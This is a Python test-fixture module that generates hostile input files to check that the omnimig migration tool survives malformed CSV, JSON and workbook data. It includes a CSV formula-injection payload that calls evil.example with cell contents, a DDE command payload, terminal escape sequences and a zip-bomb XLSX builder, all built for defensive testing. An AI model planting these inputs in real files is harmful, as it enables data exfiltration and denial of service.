"""A corpus of hostile migration files: every class of input that once broke omnimig's promises.

Each ``Case`` writes one file (or FIFO, link, folder) whose name says its migration type, so the
harness in ``test_hostile.py`` can run it through every output mode. A case names what must hold
beyond the promises every file shares (no traceback, no abort, no hang, exit codes as the README
says): the exit codes it may give and a rule that must be reported, where the outcome is known.

The files are built in the test's temporary folder, never committed: the largest (a 20 MB cell, a
100,000-column header, a zip bomb) are cheap to write and would bloat the repository.
"""

from __future__ import annotations

import json
import os
import zipfile
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

import xlsxwriter

USER_HEADER = "customer_code,first_name,last_name,email"
USER_ROW = "C1,Ayşe,Yılmaz,ayse@example.com"
ORDER_HEADER = (
    "number,user,user_email,status,created_date,amount,discount_amount,currency,payment_type,bank,"
    "installment_count,tracking_number,shipping_company,shipping_address,billing_address,extra_field"
)
ORDER_ROW = (
    "ORD-1,C1,ayse@example.com,550,2024-01-18 10:00:00,129.90,0.00,TRY,credit_card,-,1,123456,yurtici,"
    "Adres 1,Adres 1,{}"
)
ITEM_HEADER = "order_number,product,sku,quantity,price,image_url,extra_field"
ITEM_ROW = "ORD-1,Kulaklık,SKU1,1,129.90,https://cdn.example.com/p/1.jpg,{}"

USER_RECORD = {"customer_code": "C1", "first_name": "Ayşe", "last_name": "Yılmaz", "email": "ayse@example.com"}
ORDER_RECORD = dict(zip(ORDER_HEADER.split(","), ORDER_ROW.split(","), strict=True))
ORDER_RECORD.update({"amount": 129.9, "discount_amount": 0, "installment_count": 1, "extra_field": {}})

Builder = Callable[[Path], Path]


@dataclass(frozen=True)
class Case:
    """One hostile input. ``exits``: the exit codes allowed; ``rule``: a rule code that must be reported."""

    name: str
    build: Builder
    exits: frozenset[int] = frozenset({0, 1, 2})
    rule: str | None = None
    # Run only in a subprocess: an unfixed reader could abort or hang the interpreter itself.
    isolate: bool = False


def text(name: str, body: str | bytes, encoding: str = "utf-8") -> Builder:
    def build(folder: Path) -> Path:
        path = folder / name
        path.write_bytes(body if isinstance(body, bytes) else body.encode(encoding))
        return path

    return build


def lines(*rows: str) -> str:
    return "\n".join(rows) + "\n"


def xlsx(name: str, rows: list[list[object]], sheet_name: str = "Sheet1") -> Builder:
    def build(folder: Path) -> Path:
        path = folder / name
        book = xlsxwriter.Workbook(str(path))
        sheet = book.add_worksheet(sheet_name)
        for r, row in enumerate(rows):
            for c, value in enumerate(row):
                if isinstance(value, str):
                    sheet.write_string(r, c, value)
                elif value is not None:
                    sheet.write(r, c, value)
        book.close()
        return path

    return build


def openpyxl_book(name: str, fill: Callable[[object], None]) -> Builder:
    """A workbook written by openpyxl: no cached formula values, no cell-length cut."""

    def build(folder: Path) -> Path:
        import openpyxl

        path = folder / name
        book = openpyxl.Workbook()
        fill(book)
        book.save(path)
        return path

    return build


def _far_cell(book: object) -> None:
    sheet = book.active  # type: ignore[attr-defined]
    for c, name in enumerate(USER_HEADER.split(","), 1):
        sheet.cell(1, c, name)
    for c, value in enumerate(USER_ROW.split(","), 1):
        sheet.cell(2, c, value)
    sheet["XFD1048576"] = "x"


def _error_and_formula_cells(book: object) -> None:
    sheet = book.active  # type: ignore[attr-defined]
    sheet.append([*USER_HEADER.split(","), "phone"])
    sheet.append(["C1", "Ayşe", "Yılmaz", "ayse@example.com", "=NA()"])
    sheet.append(["C2", "Ali", "Kaya", '=LOWER("ALI@EXAMPLE.COM")', None])


def _long_cell(book: object) -> None:
    sheet = book.active  # type: ignore[attr-defined]
    sheet.append(ORDER_HEADER.split(","))
    row = ORDER_ROW.split(",")
    row[-1] = json.dumps({"note": "x" * 40_000})
    sheet.append(row)


def _second_sheet_title_row(book: object) -> None:
    first = book.active  # type: ignore[attr-defined]
    first.title = "Notes"
    first.append(["Exported by the old panel"])
    data = book.create_sheet("Users")  # type: ignore[attr-defined]
    data.append(["Customer list, 2024-01-01"])
    data.append([])
    data.append(USER_HEADER.split(","))
    data.append(USER_ROW.split(","))


def zip_bomb(name: str, inflated: int = 256 << 20) -> Builder:
    """A valid-looking XLSX whose sheet XML inflates about 1,000-fold (256 MiB from about a quarter of a MB)."""

    def build(folder: Path) -> Path:
        path = xlsx(name, [USER_HEADER.split(","), USER_ROW.split(",")])(folder)
        with zipfile.ZipFile(path) as original:
            members = {info.filename: original.read(info) for info in original.infolist()}
        sheet = "xl/worksheets/sheet1.xml"
        head, tail = members[sheet].decode().split("<sheetData>", 1)
        block = b" " * (1 << 20)  # whitespace between elements: still well-formed XML
        with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as bomb:
            for member, data in members.items():
                if member != sheet:
                    bomb.writestr(member, data)
            with bomb.open(sheet, "w", force_zip64=True) as handle:
                handle.write((head + "<sheetData>").encode())
                for _ in range(inflated // len(block)):
                    handle.write(block)
                handle.write(tail.encode())
        return path

    return build


def fifo(name: str) -> Builder:
    def build(folder: Path) -> Path:
        path = folder / name
        os.mkfifo(path)
        return path

    return build


def device_link(name: str) -> Builder:
    def build(folder: Path) -> Path:
        path = folder / name
        path.symlink_to("/dev/zero")
        return path

    return build


def nested(depth: int) -> str:
    return '{"a":' * depth + "1" + "}" * depth


def json_records(name: str, body: str) -> Builder:
    return text(name, body)


def order_json_with(**changes: str) -> str:
    """An order record as JSON text with some values replaced by raw JSON literals."""
    parts = [f'"{k}": {v}' if k in changes else f'"{k}": {json.dumps(v)}' for k, v in ORDER_RECORD.items()]
    parts = [f'"{k}": {changes[k]}' if k in changes else p for k, p in zip(ORDER_RECORD, parts, strict=True)]
    return "[{" + ", ".join(parts) + "}]"


def cases() -> list[Case]:
    """The whole corpus, one ``Case`` per hostile input class."""
    wide = ",".join(f"c{i}" for i in range(100_000))
    return [
        # --- CSV: structure -------------------------------------------------------------------
        Case("csv-100k-columns", text("user-wide-header.csv", lines(wide, ",".join("x" * 100_000)))),
        Case("csv-huge-header-cell", text("user-huge-header-cell.csv", lines("c" * 200_000, "x"))),
        Case("csv-2000-columns", text("user-2000.csv", lines(USER_HEADER + "," + ",".join(f"x{i}" for i in range(2000)), USER_ROW))),
        Case("csv-short-row-huge-cell", text("user-short-huge.csv", lines(USER_HEADER, "C1," + "x" * 200_000))),
        Case("csv-20mb-cell", text("order-20mb-cell.csv", lines(ORDER_HEADER, ORDER_ROW.replace("Adres 1,Adres 1", "Adres 1," + "a" * 20_000_000))), exits=frozenset({1}), rule="max-length"),
        Case("csv-wide-row", text("order_item-wide-row.csv", lines(ITEM_HEADER, ITEM_ROW, "ORD-1,Kulaklık, mavi,SKU2,1,1.00,,{}", ITEM_ROW)), exits=frozenset({1, 2})),
        Case("csv-short-row", text("user-short-row.csv", lines(USER_HEADER, USER_ROW, "C2,Ali", USER_ROW.replace("C1", "C3"))), exits=frozenset({1})),
        Case("csv-unterminated-quote", text("user-quote.csv", lines(USER_HEADER, 'C1,"Ayşe,Yılmaz,a@example.com', USER_ROW)), exits=frozenset({1, 2})),
        Case("csv-nul-bytes", text("user-nul.csv", (lines(USER_HEADER, USER_ROW) + "C2,\x00\x00,B,b@example.com\n").encode())),
        Case("csv-binary", text("user-binary.csv", bytes(range(256)) * 64), exits=frozenset({2})),
        Case("csv-empty", text("user-empty.csv", b""), exits=frozenset({2})),
        Case("csv-bom-only", text("user-bom.csv", b"\xef\xbb\xbf"), exits=frozenset({2})),
        Case("csv-header-only", text("user-header-only.csv", lines(USER_HEADER)), exits=frozenset({1}), rule="no-rows"),
        Case("csv-cr-only", text("user-cr.csv", (USER_HEADER + "\r" + USER_ROW + "\r").encode())),
        Case("csv-utf16-tabs", text("user-utf16.csv", "\ufeff" + lines(USER_HEADER.replace(",", "\t"), USER_ROW.replace(",", "\t")), "utf-16-le")),
        Case("csv-utf16be", text("user-utf16be.txt", "\ufeff" + lines(USER_HEADER.replace(",", "\t"), USER_ROW.replace(",", "\t")), "utf-16-be")),
        Case("csv-latin1", text("user-latin1.csv", lines(USER_HEADER, "C1,José,Müller,j@example.com") + "C2,\x81\x8d,B,b@example.com\n", "latin-1")),
        Case("csv-sep-line", text("user-sep.csv", lines("sep=;", USER_HEADER.replace(",", ";"), USER_ROW.replace(",", ";")))),
        Case("csv-no-newline-10mb", text("user-one-line.csv", "a," * 5_000_000)),
        Case("csv-formula-cells", text("user-formula.csv", lines(USER_HEADER, 'C1,=HYPERLINK("http://evil.example/?x"&A1;"click"),+cmd|\' /C calc\'!A0,@SUM(A1:A2)')), exits=frozenset({1})),
        Case("csv-terminal-escapes", text("user-escape.csv", lines(USER_HEADER, "C1,\x1b[2J\x1b[31mred,\x1b]0;title\x07,not-an-email\x1b[0m")), exits=frozenset({1})),
        Case("csv-escape-in-name", text("user-\x1b[31mred.csv", lines(USER_HEADER, USER_ROW))),
        Case("csv-dup-columns", text("user-dup.csv", lines(USER_HEADER + ",email", USER_ROW + ",second@example.com")), exits=frozenset({1})),
        Case("csv-blank-lines", text("user-blank.csv", lines(USER_HEADER, "", USER_ROW, ",,,", ""))),
        Case("csv-decimal-commas", text("order-commas.csv", lines(ORDER_HEADER, *(ORDER_ROW.replace("129.90", '"129,90"').replace("ORD-1", f"ORD-{i}") for i in range(50)))), exits=frozenset({1}), rule="type"),
        # --- JSON -------------------------------------------------------------------------------
        Case("json-nan", json_records("order-nan.json", order_json_with(amount="NaN")), exits=frozenset({1, 2})),
        Case("json-infinity", json_records("order-inf.json", order_json_with(amount="Infinity", discount_amount="-Infinity")), exits=frozenset({1, 2})),
        Case("json-lone-surrogate", json_records("user-surrogate.json", '[{"customer_code": "C1", "first_name": "\\ud800", "last_name": "Y", "email": "a@example.com"}]'), exits=frozenset({1, 2})),
        Case("json-deep-extra-field", json_records("order-deep-extra.json", order_json_with(extra_field=nested(400))), exits=frozenset({1, 2})),
        Case("json-deep-document", json_records("user-deep.json", "[" * 50_000 + "]" * 50_000), exits=frozenset({2})),
        Case("json-duplicate-key", json_records("user-dupkey.json", '[{"customer_code": "C1", "first_name": "A", "last_name": "B", "email": "a@example.com", "email": "b@example.com"}]'), exits=frozenset({1}), rule="duplicate-key"),
        Case("json-exponent", json_records("order-exp.json", order_json_with(amount="1.5E2"))),
        Case("json-5000-digits", json_records("order_item-bigint.json", '[{"order_number": "ORD-1", "product": "P", "sku": "S", "quantity": ' + "9" * 5000 + ', "price": 1.0}]'), exits=frozenset({1, 2})),
        Case("json-lines", json_records("user-lines.jsonl", json.dumps(USER_RECORD) + "\n" + json.dumps({**USER_RECORD, "customer_code": "C2", "email": "b@example.com"}) + "\n")),
        Case("json-lines-in-json", json_records("user-lines.json", json.dumps(USER_RECORD) + "\n" + json.dumps({**USER_RECORD, "customer_code": "C2", "email": "b@example.com"}) + "\n")),
        Case("json-wrapper", json_records("user-wrapper.json", json.dumps({"results": [USER_RECORD]}))),
        Case("json-truncated", json_records("user-truncated.json", json.dumps([USER_RECORD])[:-5]), exits=frozenset({2})),
        Case("json-number", json_records("user-number.json", "42"), exits=frozenset({2})),
        Case("json-null", json_records("user-null.json", "null"), exits=frozenset({2})),
        Case("json-non-objects", json_records("user-scalars.json", '[1, "a", null, [], {"customer_code": "C1"}]'), exits=frozenset({1, 2})),
        Case("json-huge-string", json_records("user-huge-string.json", json.dumps([{**USER_RECORD, "first_name": "x" * 5_000_000}])), exits=frozenset({1})),
        Case("json-invalid-utf8", text("user-latin1.json", b'[{"customer_code": "C1", "first_name": "\xe7\xfd"}]'), exits=frozenset({1, 2})),
        Case("json-utf16", text("user-utf16.json", "\ufeff" + json.dumps([USER_RECORD]), "utf-16-le")),
        Case("json-empty-array", json_records("user-empty-array.json", "[]"), exits=frozenset({0})),
        Case("json-formula-values", json_records("user-formula.json", json.dumps([{**USER_RECORD, "first_name": "=1+2", "email": "@SUM(A1)"}])), exits=frozenset({1})),
        # --- Workbooks --------------------------------------------------------------------------
        Case("xlsx-far-cell", openpyxl_book("user-far-cell.xlsx", _far_cell), exits=frozenset({1, 2}), isolate=True),
        Case("xlsx-zip-bomb", zip_bomb("user-bomb.xlsx"), exits=frozenset({2}), isolate=True),
        Case("xlsx-truncated", lambda folder: _truncate(xlsx("user-trunc.xlsx", [USER_HEADER.split(",")])(folder)), exits=frozenset({2})),
        Case("xlsx-random-bytes", text("user-random.xlsx", os.urandom(4096)), exits=frozenset({2})),
        Case("xlsx-really-csv", text("user-csv.xlsx", lines(USER_HEADER, USER_ROW))),
        Case("xls-really-xlsx", lambda folder: xlsx("user-xlsx.xls", [USER_HEADER.split(","), USER_ROW.split(",")])(folder)),
        Case("xls-really-html", text("user-html.xls", "<html><body><table><tr>" + "".join(f"<th>{h}</th>" for h in USER_HEADER.split(",")) + "</tr><tr>" + "".join(f"<td>{v}</td>" for v in USER_ROW.split(",")) + "</tr></table></body></html>")),
        Case("xlsx-error-and-formula-cells", openpyxl_book("user-errors.xlsx", _error_and_formula_cells), exits=frozenset({1})),
        Case("xlsx-long-cell", openpyxl_book("order-long-cell.xlsx", _long_cell)),
        Case("xlsx-second-sheet", openpyxl_book("user-second-sheet.xlsx", _second_sheet_title_row)),
        Case("xlsx-2000-columns", xlsx("user-2000.xlsx", [[*USER_HEADER.split(","), *(f"x{i}" for i in range(2000))], USER_ROW.split(",")])),
        Case("xlsx-empty", xlsx("user-empty.xlsx", []), exits=frozenset({2})),
        Case("xlsx-numbers", xlsx("order-numbers.xlsx", [ORDER_HEADER.split(","), [*ORDER_ROW.split(",")[:5], 59.970000000000006, 0, "TRY", "credit_card", "-", 3.0, 1234567890123456789, *ORDER_ROW.split(",")[12:]]])),
        # --- Not regular files ------------------------------------------------------------------
        Case("fifo", fifo("user-fifo.csv"), exits=frozenset({2}), isolate=True),
        Case("device-link", device_link("user-device.csv"), exits=frozenset({2}), isolate=True),
        Case("folder-named-csv", lambda folder: _mkdir(folder / "user-folder.csv"), exits=frozenset({2})),
    ]  # fmt: skip


def _truncate(path: Path) -> Path:
    data = path.read_bytes()
    path.write_bytes(data[: len(data) // 2])
    return path


def _mkdir(path: Path) -> Path:
    path.mkdir()
    return path


def build_all(folder: Path, selected: list[Case] | None = None) -> dict[str, Path]:
    """Write every case (or ``selected``) into ``folder``; returns name -> path."""
    folder.mkdir(parents=True, exist_ok=True)
    return {case.name: case.build(folder) for case in (selected or cases())}
